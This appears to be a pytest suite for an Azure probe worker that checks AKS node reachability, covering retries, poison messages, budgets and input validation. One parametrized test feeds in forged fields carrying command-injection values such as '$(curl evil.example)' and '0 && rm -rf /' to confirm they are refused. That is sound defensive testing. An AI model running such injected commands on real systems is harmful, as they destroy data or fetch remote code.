"""The probe worker against the ARM simulator (real azure-mgmt-compute over HTTPS) and Azurite.

The nodes here are scripted (an executor that answers in the probe's real output format from
the parameters it was sent), so every outcome of the worker can be reached on purpose: busy
VMs, throttling, lockdown, missing permission, poison, forged messages, redelivery. The real
script on namespace nodes runs in tests/e2e/test_node_lab_e2e.py.
"""

from __future__ import annotations

import json
import logging
import subprocess
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from azure.data.tables import TableServiceClient
from azure.mgmt.compute import ComputeManagementClient

from shared.adapters.clients import ArmClients, build_clients
from shared.adapters.probe_ledger import REFUSED_PARTITION, LedgerEntry, ProbeLedger, ProbeStatus
from shared.adapters.queues import ProbeQueue
from shared.adapters.tables import Coverage, FindingState, FindingStore, Observation
from shared.analysis.findings import Cause, Kind
from shared.compose import cached_inventory, probe_deps
from shared.inventory.model import Estate
from shared.jobs.probe import ProbeDeps, ProbeOptions, handle_poison, handle_probe_message
from shared.probe.params import PARAMETER_NAMES
from shared.probe_requests import ProbeKind, ProbeRequest
from tests.armsim import SCENARIOS, ArmSimulator, Faults, load_estate
from tests.armsim.faults import Failure, Throttle
from tests.armsim.scripted import ScriptedNodes, addresses_of
from tests.azurite import azurite  # noqa: F401
from tests.probe_requests_rig import ProbeRigMethods

SUB = "11111111-1111-1111-1111-111111111111"
NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
HEALTHY = (
    f"/subscriptions/{SUB}/resourceGroups/rg-web/providers/Microsoft.ContainerService/"
    "managedClusters/aks-healthy"
)
HEALTHY_RG = "MC_rg-web_aks-healthy_eastus"
PRIVATE = (
    f"/subscriptions/{SUB}/resourceGroups/rg-private/providers/Microsoft.ContainerService/"
    "managedClusters/aks-private"
)
DROP_10250 = (
    "*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\n"
    "-A INPUT -p tcp -m tcp --dport 10250 -j DROP\nCOMMIT\n"
)


class Rig(ProbeRigMethods):
    subscription = SUB

    def __init__(self, sim: ArmSimulator, nodes: ScriptedNodes, conn: str, prefix: str) -> None:
        self.sim = sim
        self.nodes = nodes
        tables = TableServiceClient.from_connection_string(conn)
        self.store = FindingStore(tables, prefix=prefix)
        self.store.ensure_tables()
        self.ledger = ProbeLedger(tables, prefix=prefix)
        self.ledger.ensure()
        self.queue = ProbeQueue.from_connection_string(conn, f"{prefix}-probes")
        self.queue.ensure()
        self.poison = self.queue.sibling(f"{prefix}-probes-poison")
        self.poison.ensure()
        self.options = ProbeOptions(subscriptions=(SUB,), max_attempts=3)
        self.deps: ProbeDeps = probe_deps(
            sim.credential(), arm_endpoint=sim.endpoint, ca_bundle=sim.ca_path,
            store=self.store, ledger=self.ledger, queue=self.queue, poison=self.poison,
            clock=lambda: NOW,
        )  # fmt: skip
        self.deps.jitter = lambda: 0.0

    def fresh_inventory(self) -> Callable[[str], Estate]:
        """A cached inventory of its own, not filled yet (the rig's has read the subscription
        already): its first call reads ARM."""

        def clients_for(sub: str) -> ArmClients:
            return build_clients(
                self.sim.credential(), sub, arm_endpoint=self.sim.endpoint,
                ca_bundle=self.sim.ca_path,
            )  # fmt: skip

        return cached_inventory(clients_for, lambda: NOW)

    def estate(self):  # type: ignore[no-untyped-def]
        return self.deps.inventory(SUB)


@pytest.fixture
def faults() -> Faults | None:
    return None  # a test parametrizes `faults` to inject some


@pytest.fixture
def rig(azurite: str, faults: Faults | None) -> Iterator[Rig]:  # noqa: F811
    estate = load_estate(SCENARIOS / "demo.json")
    nodes = ScriptedNodes(addresses_of(estate))
    with ArmSimulator(estate, executor=nodes, faults=faults) as sim:
        prefix = "tw" + sim.endpoint.rsplit(":", 1)[1]
        yield Rig(sim, nodes, azurite, prefix)


def test_triage_finds_the_unreachable_node_and_the_deep_probe_names_the_rule(rig: Rig) -> None:
    cluster, system = rig.pool(HEALTHY, "system")
    _, apps = rig.pool(HEALTHY, "apps")
    victim = apps.instances[1]
    rig.nodes.unreachable.add(victim.private_ips[0])
    rig.nodes.deep_rules[victim.private_ips[0]] = DROP_10250

    triage = rig.handle(rig.request(HEALTHY, "system"))
    assert triage.status is ProbeStatus.DONE, triage.detail
    assert triage.run_commands == 1
    # What was sent: identifiers in, addresses from the inventory out, nothing else.
    (sent,) = rig.sim.run_command_requests
    params = dict(sent.parameters)
    assert set(params) == set(PARAMETER_NAMES)
    others = {
        i.private_ips[0] for p in cluster.pools for i in p.instances
        if i.computer_name != system.instances[0].computer_name and p.os_type == "Linux"
    }  # fmt: skip
    assert others <= set(params["TW_TARGETS"].split(","))
    assert params["TW_MODE"] == "triage" and params["TW_API_HOST"] == cluster.fqdn
    blocked = [f for f in triage.findings if f.kind is Kind.PROBLEM]
    assert [f.subject.node for f in blocked] == [victim.computer_name]
    (deep,) = triage.follow_ups
    assert (deep.kind, deep.vmss, deep.instance_id) == (
        ProbeKind.DEEP,
        apps.vmss_name,
        victim.instance_id,
    )
    queued = rig.queue.take()
    assert [ProbeRequest.from_json(t).request_id for t in queued] == [deep.request_id]

    result = rig.handle(queued[0])
    assert result.status is ProbeStatus.DONE and result.run_commands == 1
    causes = {f.cause for f in result.findings if f.kind is Kind.PROBLEM}
    assert causes == {Cause.IPTABLES}
    stored = rig.store.current_findings(HEALTHY)
    assert {s.scope for s in stored} == {
        "probe:triage:system",
        f"probe:deep:{victim.computer_name}",
    }
    ledger = {e.request_id: e for e in rig.ledger.entries("probe-test")}
    assert sum(e.run_commands for e in ledger.values()) == 2

    # The node is fixed: the next triage finds it reachable and re-checks it with a deep probe,
    # which counts towards resolving the iptables finding (only the probe that owns a finding
    # resolves it); RESOLVE_AFTER=2, so the next triage and deep probe resolve it.
    rig.nodes.unreachable.clear()
    rig.nodes.deep_rules.clear()
    again = rig.handle(rig.request(HEALTHY, "system"))
    assert [r.instance_id for r in again.follow_ups] == [victim.instance_id]
    rig.handle(rig.queue.take()[0])
    still = rig.store.open_findings(subscription=SUB, cluster_id=HEALTHY)
    assert {(s.scope, s.missed) for s in still} == {
        ("probe:triage:system", 1),  # the triage's own finding (unreachable) likewise
        (f"probe:deep:{victim.computer_name}", 1),
    }
    rig.handle(rig.request(HEALTHY, "system"))
    rig.handle(rig.request(HEALTHY, "apps", victim.instance_id, ProbeKind.DEEP))
    assert not [s for s in rig.store.open_findings(subscription=SUB, cluster_id=HEALTHY)]


def test_redelivered_messages_do_not_run_or_record_twice(rig: Rig) -> None:
    request = rig.request(HEALTHY, "system")
    first = rig.handle(request)
    assert first.status is ProbeStatus.DONE
    again = rig.handle(request)
    assert again.status is ProbeStatus.DONE and again.run_commands == 0
    assert "duplicate" in again.detail
    assert len(rig.sim.run_command_requests) == 1


def test_a_copy_of_a_request_another_worker_runs_now_is_dropped(rig: Rig) -> None:
    # Two triages of one cycle ask for the same deep probe: two messages, one request id.
    request = rig.request(HEALTHY, "system")
    rig.claimed(request, owner="message-a", at=NOW - timedelta(minutes=2))
    copy = rig.handle(request, message_id="message-b")
    assert copy.status is ProbeStatus.RUNNING and "duplicate" in copy.detail
    assert rig.sim.run_command_requests == []


def test_a_redelivery_after_a_crash_runs_again(rig: Rig) -> None:
    # The host redelivers the same message (same id) after our worker died mid-probe ...
    request = rig.request(HEALTHY, "system")
    rig.claimed(request, owner="message-a", at=NOW - timedelta(minutes=2))
    assert rig.handle(request, message_id="message-a").status is ProbeStatus.DONE
    # ... and a claim older than the lease is a dead worker's, whoever held it
    other = rig.request(HEALTHY, "apps")
    rig.claimed(other, owner="message-x", at=NOW - timedelta(minutes=30))
    assert rig.handle(other, message_id="message-y").status is ProbeStatus.DONE
    assert len(rig.sim.run_command_requests) == 2


def test_of_workers_claiming_one_request_at_once_exactly_one_wins(rig: Rig) -> None:
    request = rig.request(HEALTHY, "system")
    start = threading.Barrier(8)

    def claim(n: int) -> bool:
        start.wait()
        entry = LedgerEntry(
            request.run_id, request.request_id, ProbeStatus.RUNNING, 1, "triage",
            request.cluster_id, "x/0", "running", 0, NOW, f"message-{n}",
        )  # fmt: skip
        return rig.ledger.claim(entry, lease=timedelta(minutes=25))[0]

    with ThreadPoolExecutor(max_workers=8) as pool:
        won = list(pool.map(claim, range(8)))
    assert won.count(True) == 1


def test_busy_instance_is_retried_later_as_a_new_delayed_message(rig: Rig) -> None:
    _, system = rig.pool(HEALTHY, "system")
    gate = threading.Event()
    rig.nodes.gate[(system.vmss_name.lower(), "0")] = gate
    compute = ComputeManagementClient(rig.sim.credential(), SUB, **rig.sim.client_kwargs())
    owners = compute.virtual_machine_scale_set_vms.begin_run_command(
        HEALTHY_RG, system.vmss_name, "0", {"commandId": "RunShellScript", "script": ["true"]}
    )  # the cluster owners' command, still running
    try:
        result = rig.handle(rig.request(HEALTHY, "system"))
    finally:
        gate.set()
        owners.result()
    assert result.status is ProbeStatus.RETRY
    assert "409" in result.detail and "Conflict" in result.detail
    (later,) = result.follow_ups
    assert later.attempt == 2
    assert "retry in 90s" in result.detail  # busy: 90 s first, doubling; jitter off here
    assert rig.queue.take() == []  # invisible until the delay passes: never hammered
    entry = rig.ledger.get("probe-test", later.request_id)
    assert entry is not None and entry.status is ProbeStatus.RETRY and entry.attempt == 1


def test_last_attempt_goes_to_poison_and_becomes_an_inconclusive_finding(rig: Rig) -> None:
    _, system = rig.pool(HEALTHY, "system")
    gate = threading.Event()
    rig.nodes.gate[(system.vmss_name.lower(), "0")] = gate
    compute = ComputeManagementClient(rig.sim.credential(), SUB, **rig.sim.client_kwargs())
    owners = compute.virtual_machine_scale_set_vms.begin_run_command(
        HEALTHY_RG, system.vmss_name, "0", {"commandId": "RunShellScript", "script": ["true"]}
    )
    last = replace(rig.request(HEALTHY, "system"), attempt=3)
    try:
        result = rig.handle(last)
    finally:
        gate.set()
        owners.result()
    assert result.status is ProbeStatus.POISONED
    (poisoned,) = rig.poison.take()
    assert ProbeRequest.from_json(poisoned).request_id == last.request_id
    handled = handle_poison(poisoned, rig.options, rig.deps)
    (finding,) = handled.findings
    assert finding.kind is Kind.INCONCLUSIVE and "failed 3 times" in finding.title
    assert "Conflict" in finding.evidence[0]
    stored = rig.store.open_findings(subscription=SUB, cluster_id=HEALTHY)
    assert [s.finding.title for s in stored] == [finding.title]
    # The original message delivered again: the ledger says poisoned, nothing runs.
    assert rig.handle(last).run_commands == 0


def test_an_inventory_outage_is_a_later_attempt_not_a_crash(rig: Rig) -> None:
    request = rig.request(HEALTHY, "system")
    rig.sim.faults.failures.append(Failure("managedClusters.list", status=400, code="BadRequest"))

    fresh = replace(rig.deps, inventory=rig.fresh_inventory())
    result = handle_probe_message(request.to_json(), rig.options, fresh)
    assert result.status is ProbeStatus.RETRY and "inventory read failed" in result.detail
    (later,) = result.follow_ups
    assert later.attempt == 2
    assert rig.sim.run_command_requests == []


def test_a_cut_triage_still_asks_a_deep_probe_of_the_nodes_it_named(rig: Rig) -> None:
    _, apps = rig.pool(HEALTHY, "apps")
    named, counted = apps.instances[0], apps.instances[1]
    rig.nodes.unreachable |= {named.private_ips[0], counted.private_ips[0]}
    rig.nodes.name_at_most = 1  # as when hundreds fail and only some fit the output
    triage = rig.handle(rig.request(HEALTHY, "system"))
    assert triage.status is ProbeStatus.DONE
    kinds = {(f.check, f.kind) for f in triage.findings}
    assert ("node.kubelet", Kind.INCONCLUSIVE) in kinds  # the counted one: undecided
    (deep,) = triage.follow_ups
    assert (deep.kind, deep.instance_id) == (ProbeKind.DEEP, named.instance_id)


def test_findings_of_a_node_gone_from_the_cluster_are_resolved_by_the_next_triage(
    rig: Rig,
) -> None:
    cluster, _ = rig.pool(HEALTHY, "system")
    _, apps = rig.pool(HEALTHY, "apps")
    kept = apps.instances[0]
    rig.nodes.deep_rules[kept.private_ips[0]] = DROP_10250
    deep = rig.handle(rig.request(HEALTHY, "apps", instance=kept.instance_id, kind=ProbeKind.DEEP))
    (problem,) = [f for f in deep.findings if f.kind is Kind.PROBLEM]
    # The same block on a node the scale set no longer has (scaled in since its deep probe).
    ghost = "aks-apps-38211-vmss000009"
    rig.store.record_cluster(
        Observation(
            cluster.id, Coverage.COMPLETE,
            (replace(problem, subject=replace(problem.subject, node=ghost)),),
            scope=f"probe:deep:{ghost}",
        ),
        run_id="probe-earlier", now=NOW - timedelta(hours=1),
    )  # fmt: skip
    before = {s.scope for s in rig.store.current_findings(HEALTHY, state=FindingState.OPEN)}
    assert before == {f"probe:deep:{ghost}", f"probe:deep:{kept.computer_name}"}
    triage = rig.handle(rig.request(HEALTHY, "system"))
    assert triage.status is ProbeStatus.DONE
    assert ghost in triage.detail and "gone from the cluster" in triage.detail
    after = {s.scope for s in rig.store.current_findings(HEALTHY, state=FindingState.OPEN)}
    # The node that is still there keeps its finding until its own deep probe re-checks it.
    assert after == {f"probe:deep:{kept.computer_name}"}
    assert [r.instance_id for r in triage.follow_ups] == [kept.instance_id]


def test_a_poison_message_waits_for_the_inventory_instead_of_being_lost(rig: Rig) -> None:
    request = rig.request(HEALTHY, "system")
    rig.sim.faults.failures.append(Failure("managedClusters.list", status=400, code="BadRequest"))

    fresh = replace(rig.deps, inventory=rig.fresh_inventory())
    held = handle_poison(request.to_json(), rig.options, fresh)
    assert "put back for later" in held.detail and held.findings == ()
    (again,) = held.follow_ups  # sent to the poison queue, visible in 15 minutes
    assert again.request_id == request.request_id
    assert rig.poison._client.get_queue_properties().approximate_message_count == 1
    # Hours later the outage still lasts: logged and dropped, not queued forever.
    old = replace(
        request, requested_at=NOW - timedelta(hours=rig.options.poison_patience_hours + 1)
    )
    dropped = handle_poison(old.to_json(), rig.options, fresh)
    assert "poison dropped" in dropped.detail and dropped.follow_ups == ()
    assert rig.store.open_findings(subscription=SUB) == []


def test_messages_that_find_the_inventory_expired_together_read_it_once(rig: Rig) -> None:
    inventory = rig.fresh_inventory()
    before = rig.sim.calls.get("managedClusters.list", 0)
    start = threading.Barrier(4)

    def read(_: int) -> int:
        start.wait()
        return len(inventory(SUB).clusters)

    with ThreadPoolExecutor(max_workers=4) as pool:
        sizes = list(pool.map(read, range(4)))
    assert len(set(sizes)) == 1 and sizes[0] > 0
    assert rig.sim.calls.get("managedClusters.list", 0) - before == 1


def test_run_commands_beyond_the_cycle_budget_are_skipped_with_the_reason(rig: Rig) -> None:
    rig.options = replace(rig.options, budget=2)
    first = rig.handle(rig.request(HEALTHY, "system"))
    second = rig.handle(rig.request(HEALTHY, "apps"))
    assert first.status is second.status is ProbeStatus.DONE
    third = rig.handle(rig.request(HEALTHY, "apps", instance="1", kind=ProbeKind.DEEP))
    assert third.status is ProbeStatus.SKIPPED and "over the budget of 2" in third.detail
    assert len(rig.sim.run_command_requests) == 2
    assert rig.ledger.spent("probe-test") == 2
    # PROBE_BUDGET 0 (what Bicep sets without enableNodeProbes): nothing queued runs either
    rig.options = replace(rig.options, budget=0)
    off = rig.handle(replace(rig.request(HEALTHY, "system"), run_id="probe-other"))
    assert off.status is ProbeStatus.SKIPPED and "PROBE_BUDGET 0" in off.detail
    assert len(rig.sim.run_command_requests) == 2


def test_workers_on_many_instances_share_one_budget(rig: Rig) -> None:
    start = threading.Barrier(8)

    def spend(_: int) -> bool:
        start.wait()
        return rig.ledger.spend("probe-shared", 1, 5)

    with ThreadPoolExecutor(max_workers=8) as pool:
        took = list(pool.map(spend, range(8)))
    assert took.count(True) == 5
    assert rig.ledger.spent("probe-shared") == 5


def test_a_poison_copy_of_a_finished_request_records_nothing(rig: Rig) -> None:
    request = rig.request(HEALTHY, "system")
    assert rig.handle(request).status is ProbeStatus.DONE
    stale = handle_poison(replace(request, attempt=3).to_json(), rig.options, rig.deps)
    assert stale.findings == () and "dropped" in stale.detail
    entry = rig.ledger.get(request.run_id, request.request_id)
    assert entry is not None and entry.status is ProbeStatus.DONE


def test_the_ledger_counts_the_run_commands_of_every_attempt(rig: Rig) -> None:
    _, system = rig.pool(HEALTHY, "system")
    gate = threading.Event()
    rig.nodes.gate[(system.vmss_name.lower(), "0")] = gate
    compute = ComputeManagementClient(rig.sim.credential(), SUB, **rig.sim.client_kwargs())
    owners = compute.virtual_machine_scale_set_vms.begin_run_command(
        HEALTHY_RG, system.vmss_name, "0", {"commandId": "RunShellScript", "script": ["true"]}
    )
    try:
        (later,) = rig.handle(rig.request(HEALTHY, "system")).follow_ups  # 409: one call
    finally:
        gate.set()
        owners.result()
    assert rig.handle(later).status is ProbeStatus.DONE  # the second attempt runs
    entry = rig.ledger.get(later.run_id, later.request_id)
    assert entry is not None and entry.run_commands == 2


def test_node_resource_group_lockdown_is_a_coverage_finding(rig: Rig) -> None:
    result = rig.handle(rig.request(PRIVATE, "system"))
    assert result.status is ProbeStatus.DENIED
    (finding,) = result.findings
    assert finding.kind is Kind.COVERAGE
    assert finding.remediation is not None
    assert "--nrg-lockdown-restriction-level Unrestricted" in finding.remediation.commands[0]
    assert result.follow_ups == ()  # a 403 is not retried
    assert rig.nodes.calls == []


@pytest.mark.parametrize("faults", [
    Faults(failures=[Failure("virtualMachineScaleSetVMs.runCommand", status=403,
                             code="AuthorizationFailed", message="no runCommand/action")])
])  # fmt: skip
def test_missing_permission_says_which_role(rig: Rig) -> None:
    result = rig.handle(rig.request(HEALTHY, "system"))
    assert result.status is ProbeStatus.DENIED
    (finding,) = result.findings
    assert finding.remediation is not None
    assert "Virtual Machine Contributor" in finding.remediation.commands[0]
    assert HEALTHY_RG in finding.remediation.commands[0]


@pytest.mark.parametrize("faults", [
    Faults(failures=[Failure("virtualMachineScaleSetVMs.runCommand", status=409,
                             code="ScopeLocked", message="The scope cannot perform write "
                             "operation because following scope(s) are locked")])
])  # fmt: skip
def test_a_read_only_lock_is_a_denial_not_a_busy_vm(rig: Rig) -> None:
    # 409 like a busy VM, but waiting will not help: a coverage finding naming the lock
    result = rig.handle(rig.request(HEALTHY, "system"))
    assert result.status is ProbeStatus.DENIED
    assert result.follow_ups == ()
    (finding,) = result.findings
    assert finding.kind is Kind.COVERAGE and "ScopeLocked" in finding.title
    assert finding.remediation is not None
    assert finding.remediation.commands == (f"az lock list --resource-group {HEALTHY_RG} -o table",)


@pytest.mark.parametrize(
    "faults",
    [
        Faults(
            throttles=[Throttle("virtualMachineScaleSetVMs.runCommand", first=1, retry_after=150)]
        )
    ],
)
def test_throttling_waits_at_least_retry_after(rig: Rig) -> None:
    result = rig.handle(rig.request(HEALTHY, "system"))
    assert result.status is ProbeStatus.RETRY
    assert "retry in 150s" in result.detail  # Retry-After (150) beats the 60 s first backoff


@pytest.mark.parametrize("faults", [
    Faults(failures=[Failure("virtualMachineScaleSetVMs.runCommand", status=500, times=2)],
           throttles=[Throttle("virtualMachineScaleSetVMs.runCommand", first=1, retry_after=1)])
])  # fmt: skip
def test_a_run_command_is_never_re_sent_by_the_sdk_after_an_answer_that_may_have_started_it(
    rig: Rig,
) -> None:
    op = "virtualMachineScaleSetVMs.runCommand"
    # A 429 was not accepted: azure-core waits its Retry-After and sends again (2 POSTs);
    # the 500 that follows might have started the script: not re-sent, a later attempt.
    # (Each rule counts every call: the failure's `times=2` is its answer to the second.)
    first = rig.handle(rig.request(HEALTHY, "system"))
    assert rig.sim.calls.get(op) == 2
    assert first.status is ProbeStatus.RETRY and "500" in first.detail
    (later,) = first.follow_ups
    assert rig.handle(later).status is ProbeStatus.DONE
    assert rig.sim.calls.get(op) == 3
    (entry,) = rig.ledger.entries("probe-test")
    assert entry.run_commands == 2  # the worker's count: both attempts that reached the node


def test_skips_are_recorded_with_the_reason(rig: Rig) -> None:
    windows = rig.handle(rig.request(HEALTHY, "win1"))
    assert windows.status is ProbeStatus.SKIPPED and "Windows" in windows.detail
    shop = (
        "/".join(HEALTHY.split("/")[:4])
        + "/rg-shop/providers/Microsoft.ContainerService/managedClusters/aks-shop"
    )
    opted = rig.handle(rig.request(shop, "user"))
    assert opted.status is ProbeStatus.SKIPPED and "tunnelwatch-probe=off" in opted.detail
    assert rig.sim.run_command_requests == []


@pytest.mark.parametrize(
    "field_name, value",
    [
        ("vmss", "aks-system-1234-vmss;reboot"),
        ("vmss", "$(curl evil.example)"),
        ("instance_id", "0 && rm -rf /"),
        ("node_resource_group", "rg`id`"),
        ("cluster_id", HEALTHY + "/../x"),
    ],
)
def test_forged_messages_are_refused_before_any_run_command(
    rig: Rig, field_name: str, value: str
) -> None:
    doc = rig.request(HEALTHY, "system").to_json()
    forged = json.loads(doc)
    forged[field_name] = value
    result = rig.handle(json.dumps(forged))
    assert result.status is None and result.detail.startswith("refused")
    assert rig.sim.run_command_requests == []


def test_unknown_ids_are_refused_before_any_run_command(rig: Rig) -> None:
    good = rig.request(HEALTHY, "system")
    for bad in (
        replace(good, instance_id="97"),
        replace(good, vmss="aks-system-00000000-vmss"),
        replace(good, node_resource_group="rg-elsewhere"),
        replace(good, cluster_id=HEALTHY.replace("aks-healthy", "aks-ghost")),
    ):
        result = rig.handle(replace(bad, request_id=ProbeRequest.new(
            ProbeKind.TRIAGE, run_id="x", subscription=SUB, cluster_id=HEALTHY,
            node_resource_group="r", vmss="v", instance_id="0", reason="", now=NOW,
        ).request_id))  # fmt: skip
        assert result.status is ProbeStatus.REFUSED, result.detail
    assert rig.sim.run_command_requests == []


def test_what_reaches_the_extension_is_only_exports_of_checked_values(rig: Rig) -> None:
    rig.handle(rig.request(HEALTHY, "system"))
    (sent,) = rig.sim.run_command_requests
    # The extension prepends `export NAME=value` lines, unquoted. Execute exactly that
    # preamble with bash's xtrace: the only commands run must be the exports themselves.
    preamble = "".join(f"export {n}={v}\n" for n, v in sent.parameters)
    proc = subprocess.run(
        ["bash", "-x", "-c", preamble + "declare -p " + " ".join(n for n, _ in sent.parameters)],
        capture_output=True, text=True, timeout=10, check=True,
    )  # fmt: skip
    traced = [ln for ln in proc.stderr.splitlines() if ln.startswith("+")]
    assert all(ln.startswith(("+ export TW_", "+ TW_", "+ declare -p")) for ln in traced), traced
    assert sum(ln.startswith("+ export ") for ln in traced) == len(sent.parameters)
    for name, value in sent.parameters:
        assert f'declare -x {name}="{value}"' in proc.stdout


def test_production_wiring_creates_what_the_worker_writes_to(azurite: str) -> None:  # noqa: F811
    from azure.storage.queue import QueueServiceClient

    from functions import probe_worker
    from shared.config import Settings

    env = {"TUNNELWATCH_SUBSCRIPTIONS": SUB, "AzureWebJobsStorage": azurite,
           "PROBE_QUEUE": "prodwire", "TABLE_PREFIX": "prodwire"}  # fmt: skip
    deps = probe_worker.production_deps(Settings.from_env(env), env)
    queues = {q.name for q in QueueServiceClient.from_connection_string(azurite).list_queues()}
    assert "prodwire-poison" in queues
    tables = {t.name for t in TableServiceClient.from_connection_string(azurite).list_tables()}
    assert "prodwireprobes" in tables and deps.ledger.table_name == "prodwireprobes"


def _doc(rig: Rig) -> dict[str, object]:
    return json.loads(rig.request(HEALTHY, "system").to_json())  # type: ignore[no-any-return]


def _bad_messages(rig: Rig) -> list[tuple[str, str]]:
    """(label, text) of messages that are not probe requests (issue 15, defect 6)."""
    out: list[tuple[str, str]] = []
    for field_name in (
        "request_id", "run_id", "cluster_id", "node_resource_group", "vmss", "instance_id",
        "reason",
    ):  # fmt: skip
        doc = _doc(rig)
        doc[field_name] = f"{doc[field_name]}\n"
        out.append((f"{field_name} + newline", json.dumps(doc)))
    for key, value in (
        ("v", True), ("v", 1.0), ("attempt", 1.0), ("attempt", True), ("instance_id", 0),
        ("run_id", None), ("vmss", ["aks"]), ("kind", {"triage": 1}),
    ):  # fmt: skip
        doc = _doc(rig)
        doc[key] = value
        out.append((f"{key}={value!r}", json.dumps(doc)))
    extra = _doc(rig) | {"script": "reboot"}
    missing = _doc(rig)
    missing.pop("vmss")
    # First in the text and quoted by the error: both the excerpt and the reason must mask it.
    secret = {"vmss": "AccountKey=c2VjcmV0LWtleS1ub3QtZm9yLWxvZ3M="} | _doc(rig)
    secret["vmss"] = "AccountKey=c2VjcmV0LWtleS1ub3QtZm9yLWxvZ3M="
    out += [
        ("extra key", json.dumps(extra)),
        ("missing key", json.dumps(missing)),
        ("secret in a field", json.dumps(secret)),
        ("not JSON", "{'v': 1"),
        ("empty", ""),
        ("a JSON list", "[1, 2]"),
        ("huge", json.dumps(_doc(rig) | {"reason": "A" * 60_000})),
        ("deep", "[" * 2000 + "]" * 2000),
    ]
    return out


def test_unreadable_messages_are_dropped_with_a_record_and_never_raise(rig: Rig) -> None:
    # Before: a newline in run_id (then scan_id) or request_id escaped as a Table Storage 400
    # (the host then retries 5 times and poisons the message), "v": true ran a probe, and
    # other bad messages were only logged.
    messages = _bad_messages(rig)
    for label, text in messages:
        result = rig.handle(text, message_id=f"msg-{label}")
        assert result.status is None and result.detail.startswith("refused"), (label, result)
        poison = handle_poison(text, rig.options, rig.deps)
        assert poison.status is None and poison.detail.startswith("refused"), (label, poison)
    assert rig.sim.run_command_requests == []
    assert rig.queue.take() == [] and rig.poison.take() == []
    rows = list(rig.ledger.entries(REFUSED_PARTITION))
    assert len(rows) == 2 * len(messages)
    assert {r.status for r in rows} == {ProbeStatus.REFUSED}
    assert {r.kind for r in rows} == {"probe-requests", "probe-requests-poison"}
    for row in rows:
        assert len(row.detail) < 1500 and "\n" not in row.detail
        assert "c2VjcmV0LWtleS1ub3QtZm9yLWxvZ3M" not in row.detail
    # Nothing was filed under a scan, and nothing else was stored.
    assert list(rig.ledger.entries("probe-test")) == []
    assert rig.store.current_findings(HEALTHY) == []


def test_a_dropped_message_is_logged_with_an_excerpt_only(
    rig: Rig, caplog: pytest.LogCaptureFixture
) -> None:
    text = json.dumps({"vmss": "password=hunter2hunter2" + "B" * 3000} | _doc(rig) | {"v": True})
    text = text.replace(_doc(rig)["vmss"], "password=hunter2hunter2" + "B" * 3000)  # type: ignore[arg-type]
    with caplog.at_level(logging.WARNING, logger="shared.jobs.probe"):
        rig.handle(text)
    (record,) = [r for r in caplog.records if "dropped" in r.getMessage()]
    line = record.getMessage()
    assert "v: schema version True" in line
    assert len(line) < 1000 and "\n" not in line and "hunter2hunter2" not in line
